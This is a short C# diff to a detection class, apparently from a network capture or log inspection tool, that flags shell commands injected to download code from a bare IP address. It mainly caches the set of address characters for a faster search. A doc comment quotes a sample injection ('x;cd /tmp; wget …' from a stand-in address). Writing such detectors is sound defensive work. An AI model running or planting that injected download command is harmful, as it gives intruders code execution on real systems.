@@ -1,8 +1,12 @@
+using System.Buffers;
+
 namespace NetHawk.Capture.Peek;
 
 /// <summary>What an intruder has a shell do first: load the rest, or call back.</summary>
 internal static class ShellWords
 {
+    private static readonly SearchValues<byte> OfAddress = SearchValues.Create("0123456789."u8);
+
     private const int MostRead = 2_000;
 
     /// <summary>"x;cd /tmp; wget http://192.0.2.1/x": behind a sign of the shell's that ends a value without words, from a bare address. Lines of logs (RFC 5424, GELF) and texts hold such commands too.</summary>
@@ -17,7 +21,7 @@ internal static class ShellWords
         int sign = text[..at].LastIndexOfAny(";|`&"u8);
         if (sign < 0 || at - sign > 4) return false;
         var host = text[(at + 12)..];
-        int end = host.IndexOfAnyExcept("0123456789."u8);
+        int end = host.IndexOfAnyExcept(OfAddress);
         return end is >= 7 and <= 15 && host[..end].Count((byte)'.') == 3;
     }
 
